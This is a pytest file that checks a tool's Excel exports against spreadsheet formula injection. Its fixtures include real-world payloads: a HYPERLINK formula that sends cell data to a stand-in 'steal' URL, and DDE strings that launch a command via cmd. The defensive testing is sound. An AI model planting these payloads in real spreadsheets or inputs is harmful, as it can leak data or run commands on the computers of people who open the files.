"""Formula injection: every exported text field that starts with = + - @ tab or CR comes back as a text cell.

The hostile values are written straight into the database where the command line would strip them
(leading tab / CR), as a person editing the file with sqlite-utils or Datasette could; the exporters must
be safe whatever the database holds. Read back with openpyxl, each value must sit in a cell of data type
"s" with the quotePrefix style bit, equal to the value apart from the documented control-character handling
of :func:`kamtui.excel.common.safe_text` (CR LF / CR become LF, XML-illegal characters are dropped).
"""

from __future__ import annotations

import re
import sqlite3
import zipfile
from collections import defaultdict
from pathlib import Path

from kamtui.excel.common import safe_text

from .corpus import BASE

LEADS = ("=", "+", "-", "@", "\t", "\r")

# One value per leading character for each kind of field; several are real-world payloads.
TITLE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open the read-out")'
PROGRAMME = "+1+2"
NAMES = ("=1+1 Ann", "+Bob", "-Cy 2", "@Dee", "\tEve", "\rFay")
ROLES = ("=Role", "+Sales", "-KAM", "@Leadership", "\tOps", "\rCustomer")
COMMENTS = (
    "=cmd|' /C calc'!A0",
    "+thinks so",
    "-2 points lower than last year",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r\n=1+1 after CR LF",
)
SURVEY_TEXT = {  # a custom survey file: these are user text too
    "title": "=Survey title",
    "element": "+Element with a plus",
    "indicator": "-Indicator that starts with a minus",
    "level": "@Level description with an at sign",
    "prescription": "=Prescription(1)",
}


def scan(path: Path) -> dict[str, list[tuple[str, str, str, bool]]]:
    """Every text cell of the workbook: value -> [(sheet, coordinate, data_type, quotePrefix)]."""
    from openpyxl import load_workbook

    cells: dict[str, list[tuple[str, str, str, bool]]] = defaultdict(list)
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells[cell.value].append((sheet.title, cell.coordinate, cell.data_type, cell.quotePrefix))
    return cells


def assert_text_cells(cells, value: str, sheets: set[str]) -> None:
    """``value`` (as safe_text keeps it) is in each of ``sheets``, and every cell holding it is quoted text."""
    shown = safe_text(value)
    assert shown.startswith(LEADS[:4]) or shown.startswith(("\t", "\n")), repr(shown)
    found = cells.get(shown, [])
    assert {sheet for sheet, *_ in found} >= sheets, f"{value!r} found in {found}"
    for sheet, coordinate, data_type, quoted in found:
        assert data_type == "s", f"{value!r} at {sheet}!{coordinate} has data type {data_type!r}"
        assert quoted, f"{value!r} at {sheet}!{coordinate} has no quotePrefix"


def no_formula_elements(path: Path, allowed_sheets: tuple[str, ...] = ()) -> None:
    """No worksheet part holds a <f> (formula) element, but the sheets that have deliberate formulas."""
    with zipfile.ZipFile(path) as archive:
        workbook_xml = archive.read("xl/workbook.xml").decode("utf-8")
        names = re.findall(r'<sheet [^>]*name="([^"]+)"', workbook_xml)
        for index, name in enumerate(names, 1):
            part = f"xl/worksheets/sheet{index}.xml"
            if name in allowed_sheets or part not in archive.namelist():
                continue
            assert "<f>" not in archive.read(part).decode("utf-8"), f"a formula in sheet {name}"


# ----------------------------------------------------------------------------- healthcheck workbook


def hostile_survey(tmp_path: Path) -> Path:
    text = (BASE / "survey.toml").read_text(encoding="utf-8")
    text = text.replace('title = "Mini survey"', f'title = "{SURVEY_TEXT["title"]}"')
    text = text.replace('name = "Alpha"', f'name = "{SURVEY_TEXT["element"]}"')
    text = text.replace('text = "Alpha statement one"', f'text = "{SURVEY_TEXT["indicator"]}"')
    text = text.replace('"alpha 1", "alpha 2"', f'"alpha 1", "{SURVEY_TEXT["level"]}"')
    text = text.replace('prescriptions = ["alpha 1->2"', f'prescriptions = ["{SURVEY_TEXT["prescription"]}"')
    path = tmp_path / "hostile-survey.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_healthcheck_workbook_keeps_every_user_text_as_text(cli, db_path, tmp_path):
    survey = hostile_survey(tmp_path)
    assert cli("survey", "validate", survey).code == 0
    assert cli("healthcheck", "new", "--title", "placeholder", "--survey", survey).stdout == "1\n"
    for k in range(len(NAMES)):
        # Element alpha at level 1 puts its level-2 description and 1->2 prescription on the Prescription
        # sheet; beta's answers differ by role, so the Summary names a largest role gap.
        for indicator, value in (("A-1", 1), ("A-2", 1), ("B-1", k % 5 + 1)):
            result = cli(
                "healthcheck", "answer", 1, indicator, value,
                "--respondent", f"person {k}", "--role", f"role {k}", "--comment", COMMENTS[k],
            )  # fmt: skip
            assert result.code == 0, result.output
    # What the command line strips (outer whitespace), a database editor does not.
    conn = sqlite3.connect(db_path)
    with conn:
        conn.execute("UPDATE assessments SET title = ?, programme = ?", (TITLE, PROGRAMME))
        for k, (name, role) in enumerate(zip(NAMES, ROLES, strict=True)):
            conn.execute(
                "UPDATE respondents SET name = ?, role = ? WHERE name = ?", (name, role, f"person {k}")
            )
    conn.close()

    out = tmp_path / "hc.xlsx"
    result = cli("export", "healthcheck", 1, "-o", out)
    assert (result.code, result.stdout) == (0, f"{out}\n"), result.output
    cells = scan(out)

    assert_text_cells(cells, TITLE, {"About"})
    assert_text_cells(cells, PROGRAMME, {"About"})
    for name in NAMES:
        assert_text_cells(cells, name, {"Answers", "Comments"})
    for role in ROLES:
        assert_text_cells(cells, role, {"Answers", "Comments", "Summary"})  # Summary: one column per role
    for comment in COMMENTS:
        assert_text_cells(cells, comment, {"Comments"})
    assert_text_cells(cells, SURVEY_TEXT["title"], {"About"})
    assert_text_cells(cells, SURVEY_TEXT["element"], {"Summary", "Indicators", "Answers", "Comments"})
    assert_text_cells(cells, SURVEY_TEXT["indicator"], {"Indicators", "Answers", "Comments"})
    assert_text_cells(cells, SURVEY_TEXT["level"], {"Prescription"})
    assert_text_cells(cells, SURVEY_TEXT["prescription"], {"Prescription"})
    # "Largest role gap" reads "<role> − <role>": it starts with a hostile role too.
    gaps = [
        value for value in cells if " − " in value and value.startswith(tuple(safe_text(r)[0] for r in ROLES))
    ]
    assert gaps
    for gap in gaps:  # "A − B" on Summary; "A − B: +0.25" with the difference on the Elements sheet
        assert_text_cells(cells, gap, {"Elements"} if ": " in gap else {"Summary"})
    # Whatever else is in the workbook, nothing anywhere is a formula or an error value.
    assert all(dt in ("s", "n") for found in cells.values() for _, _, dt, _ in found)
    no_formula_elements(out)


# ----------------------------------------------------------------------------- selection workbook

CRITERIA_NAMES = ("=Strategic fit", "+Revenue", "-Share of wallet", "@Growth")
CRITERIA_TITLE = "=Selection set title"
ACCOUNTS = {  # account: (owner, segment, ref)
    '=HYPERLINK("http://example.invalid","Acme")': ("+Ann", "-Industry", "@A-1"),
    "+Globex": ("-Bob", "@Retail", "=G-7"),
    "-Initech": ("@Cy", "=Services", "+I-3"),
    "@Umbrella": ("=Dee", "+Pharma", "-U-4"),
    "\tTab Ltd": ("\tEve", "\tTabs", "\tT-5"),
    "\rCR plc": ("\rFay", "\rReturns", "\rC-6"),
}


def hostile_criteria(tmp_path: Path) -> Path:
    lines = [f'id = "hostile"\ntitle = "{CRITERIA_TITLE}"\n']
    for index, (name, group) in enumerate(
        zip(CRITERIA_NAMES, ("attractiveness", "attractiveness", "strength", "strength"), strict=True)
    ):
        lines.append(
            f'[[criteria]]\nid = "c{index}"\nname = "{name}"\ngroup = "{group}"\nkind = "rating"\nweight = {index + 1}\n'
        )
    path = tmp_path / "hostile-criteria.toml"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def test_selection_workbook_keeps_every_user_text_as_text(cli, db_path, tmp_path):
    criteria = hostile_criteria(tmp_path)
    assert cli("criteria", "validate", criteria).code == 0
    csv = tmp_path / "accounts.csv"
    rows = ["account,owner,segment,ref,c0,c1,c2,c3"]
    rows += [f"Account {i},o,s,r,{i + 2},{9 - i},{i + 4},{8 - i}" for i in range(len(ACCOUNTS))]
    csv.write_text("\n".join(rows) + "\n", encoding="utf-8")
    result = cli("accounts", "import", csv, "--criteria", criteria)
    assert result.code == 0, result.output
    conn = sqlite3.connect(db_path)
    with conn:
        for i, (account, (owner, segment, ref)) in enumerate(ACCOUNTS.items()):
            conn.execute(
                "UPDATE accounts SET name = ?, owner = ?, segment = ?, ref = ? WHERE name = ?",
                (account, owner, segment, ref, f"Account {i}"),
            )
    conn.close()

    out = tmp_path / "selection.xlsx"
    result = cli("export", "selection", "--criteria", criteria, "-o", out)
    assert result.code == 0, result.output
    assert result.stdout == f"{out}\n"
    cells = scan(out)

    for account, (owner, segment, ref) in ACCOUNTS.items():
        assert_text_cells(cells, account, {"Ranking", "Scores", "What-if"})
        for value in (owner, segment, ref):
            assert_text_cells(cells, value, {"Ranking"})
    for name in CRITERIA_NAMES:
        assert_text_cells(cells, name, {"Criteria", "What-if"})
    assert_text_cells(cells, CRITERIA_TITLE, {"About"})
    no_formula_elements(out, allowed_sheets=("What-if",))
